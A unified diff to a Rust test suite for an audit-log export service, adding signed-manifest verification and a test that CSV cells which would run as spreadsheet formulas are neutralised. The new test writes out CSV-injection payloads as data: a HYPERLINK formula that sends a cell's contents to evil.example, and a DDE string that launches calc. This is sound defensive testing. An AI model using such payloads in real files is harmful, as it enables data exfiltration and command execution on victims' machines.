@@ -226,48 +226,61 @@ fn csv_and_json_exports_parse_back_and_verify() {
         std::fs::write(&p, data).expect("write");
         p
     };
-    let run = |p: &std::path::Path| {
-        let (code, out, err) = cli(&["verify", "--export", path_str(p), "--json"], &[]);
+    let csv_manifest = write("csv.manifest.json", &manifest(&s, &key, &csv_id));
+    let json_manifest = write("json.manifest.json", &manifest(&s, &key, &json_id));
+    let run = |p: &std::path::Path, m: &std::path::Path| {
+        let (code, out, err) = cli(
+            &[
+                "verify",
+                "--export",
+                path_str(p),
+                "--manifest",
+                path_str(m),
+                "--json",
+            ],
+            &[],
+        );
         let v: Value = serde_json::from_str(&out).unwrap_or_else(|_| panic!("{out}{err}"));
         (code, v)
     };
-    for (name, data) in [("clean.csv", bytes.clone()), ("clean.json", jbytes.clone())] {
-        let (code, v) = run(&write(name, &data));
-        assert_eq!(code, 0, "{name}: {v}");
-    }
+    let (code, v) = run(&write("clean.csv", &bytes), &csv_manifest);
+    assert_eq!(code, 0, "{v}");
+    let (code, v) = run(&write("clean.json", &jbytes), &json_manifest);
+    assert_eq!(code, 0, "{v}");
+    // The row's own failure, after what the manifest says of the file as a whole.
+    let row_failure = |v: &Value| {
+        v["report"]["failures"]
+            .as_array()
+            .expect("failures")
+            .iter()
+            .find(|f| !f["row"].is_null() && f["kind"] != json!("row_count_mismatch"))
+            .map(|f| (f["row"].clone(), f["kind"].clone()))
+    };
     let text = String::from_utf8(bytes.clone()).expect("utf8");
     let modified = text.replacen("ua, with comma", "ua, with cOmma", 1);
-    let (code, v) = run(&write("modified.csv", modified.as_bytes()));
+    let (code, v) = run(&write("modified.csv", modified.as_bytes()), &csv_manifest);
     assert_eq!(code, 1);
-    assert_eq!(
-        (
-            v["report"]["failures"][0]["row"].clone(),
-            v["report"]["failures"][0]["kind"].clone()
-        ),
-        (json!(2), json!("hash_mismatch"))
-    );
+    assert_eq!(v["report"]["failures"][0]["kind"], json!("digest_mismatch"));
+    assert_eq!(row_failure(&v), Some((json!(2), json!("hash_mismatch"))));
 
     let mut removed = arr.clone();
     removed.remove(1);
-    let (code, v) = run(&write(
-        "removed.json",
-        &serde_json::to_vec(&removed).expect("json"),
-    ));
-    assert_eq!(code, 1);
-    assert_eq!(
-        (
-            v["report"]["failures"][0]["row"].clone(),
-            v["report"]["failures"][0]["kind"].clone()
-        ),
-        (json!(2), json!("missing"))
+    let (code, v) = run(
+        &write("removed.json", &serde_json::to_vec(&removed).expect("json")),
+        &json_manifest,
     );
+    assert_eq!(code, 1);
+    assert_eq!(row_failure(&v), Some((json!(2), json!("missing"))));
 
     let mut reordered = arr.clone();
     reordered.swap(0, 2);
-    let (code, v) = run(&write(
-        "reordered.json",
-        &serde_json::to_vec(&reordered).expect("json"),
-    ));
+    let (code, v) = run(
+        &write(
+            "reordered.json",
+            &serde_json::to_vec(&reordered).expect("json"),
+        ),
+        &json_manifest,
+    );
     assert_eq!(code, 1);
     assert!(
         v["report"]["failures"]
@@ -278,7 +291,8 @@ fn csv_and_json_exports_parse_back_and_verify() {
         "{v}"
     );
 
-    // A pro export carries no chain: verify cannot check it (exit 2), it does not pass it.
+    // A pro export carries no chain: held to its manifest it verifies (rows and digest);
+    // without one there is nothing to check it against (exit 2), it does not pass.
     let (pro_tenant, pro_key) = s.tenant_with_key("pro");
     ingest(
         &s,
@@ -287,11 +301,94 @@ fn csv_and_json_exports_parse_back_and_verify() {
     let pro_id = start_export(&s, &pro_key, json!({"format": "json"}));
     s.wait_export_status(&pro_key, &pro_id, "completed");
     let (_, _, _, pbytes) = s.download_export(&pro_key, &pro_id);
+    let pro_file = write("pro.json", &pbytes);
+    let (code, v) = run(
+        &pro_file,
+        &write("pro.manifest.json", &manifest(&s, &pro_key, &pro_id)),
+    );
+    assert_eq!(code, 0, "{v}");
     let (code, _, err) = cli(
-        &["verify", "--export", path_str(&write("pro.json", &pbytes))],
+        &["verify", "--export", path_str(&pro_file), "--chain-only"],
         &[],
     );
     assert_eq!(code, 2, "{err}");
+}
+
+/// The export's signed manifest, as served.
+fn manifest(s: &Server, key: &str, id: &str) -> Vec<u8> {
+    crate::export_verify::download_manifest(s, key, id)
+}
+
+/// Cells a spreadsheet would run as a formula (from a User-Agent, ingested fields, an error
+/// message) are written with a leading `'` in CSV, read back exactly by `verify`, and left as
+/// they are in JSON.
+#[test]
+fn csv_cells_that_would_run_as_formulas_are_neutralised_and_the_export_still_verifies() {
+    let s = Server::start();
+    let (tenant, key) = s.tenant_with_key("business");
+    let hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
+    let hostile = json!({"tenant_id": tenant, "action": "gateway.chat", "http_status": 500,
+        "model_id": "+cmd|' /C calc'!A0", "project_id": "-2+3", "gateway_id": "@SUM(A1:A9)",
+        "error_msg": "\tTAB", "user_agent": "'quoted"});
+    ingest(&s, vec![hostile]);
+    // A request whose own User-Agent is a formula: the service records it.
+    let r = s
+        .raw()
+        .get(format!("{}/v1/memories", s.url))
+        .bearer_auth(&key)
+        .header("user-agent", hyperlink)
+        .send()
+        .expect("send");
+    assert_eq!(r.status().as_u16(), 200);
+
+    let id = start_export(&s, &key, json!({"format": "csv"}));
+    s.wait_export_status(&key, &id, "completed");
+    let (_, _, _, bytes) = s.download_export(&key, &id);
+    let mut reader = csv::Reader::from_reader(bytes.as_slice());
+    let headers = reader.headers().expect("headers").clone();
+    let col = |name: &str| headers.iter().position(|h| h == name).expect("column");
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
+    assert_eq!(&rows[0][col("model_id")], "'+cmd|' /C calc'!A0");
+    assert_eq!(&rows[0][col("project_id")], "'-2+3");
+    assert_eq!(&rows[0][col("gateway_id")], "'@SUM(A1:A9)");
+    assert_eq!(&rows[0][col("error_msg")], "'\tTAB");
+    assert_eq!(&rows[0][col("user_agent")], "''quoted");
+    assert_eq!(&rows[0][col("http_status")], "500");
+    assert_eq!(&rows[1][col("user_agent")], format!("'{hyperlink}"));
+    // No cell of any row starts a formula.
+    for row in &rows {
+        for cell in row.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} in {row:?}"
+            );
+        }
+    }
+    // verify undoes the guard before hashing: the genuine file verifies bit for bit.
+    let dir = tempfile::tempdir().expect("tempdir");
+    let (f, m) = (dir.path().join("e.csv"), dir.path().join("m.json"));
+    std::fs::write(&f, &bytes).expect("write");
+    std::fs::write(&m, manifest(&s, &key, &id)).expect("write");
+    let (code, out, err) = cli(
+        &[
+            "verify",
+            "--export",
+            path_str(&f),
+            "--manifest",
+            path_str(&m),
+        ],
+        &[],
+    );
+    assert_eq!(code, 0, "{out}{err}");
+
+    // JSON exports are data: the values as they are.
+    let jid = start_export(&s, &key, json!({"format": "json"}));
+    s.wait_export_status(&key, &jid, "completed");
+    let (_, _, _, jbytes) = s.download_export(&key, &jid);
+    let arr: Vec<Value> = serde_json::from_slice(&jbytes).expect("json");
+    assert_eq!(arr[0]["model_id"], json!("+cmd|' /C calc'!A0"));
+    assert_eq!(arr[0]["user_agent"], json!("'quoted"));
+    assert_eq!(arr[1]["user_agent"], json!(hyperlink));
 }
 
 #[test]
@@ -361,7 +458,18 @@ fn an_empty_user_agent_header_still_exports_a_verifiable_csv() {
     let dir = tempfile::tempdir().expect("tempdir");
     let p = dir.path().join("export.csv");
     std::fs::write(&p, &bytes).expect("write");
-    let (code, out, err) = cli(&["verify", "--export", path_str(&p)], &[]);
+    let m = dir.path().join("manifest.json");
+    std::fs::write(&m, manifest(&s, &key, &id)).expect("write");
+    let (code, out, err) = cli(
+        &[
+            "verify",
+            "--export",
+            path_str(&p),
+            "--manifest",
+            path_str(&m),
+        ],
+        &[],
+    );
     assert_eq!(code, 0, "{out}{err}");
     let (_, v) = s.get("/v1/audit/logs?action=memory.list", &key);
     assert_eq!(v["data"]["logs"][0]["user_agent"], Value::Null, "{v}");
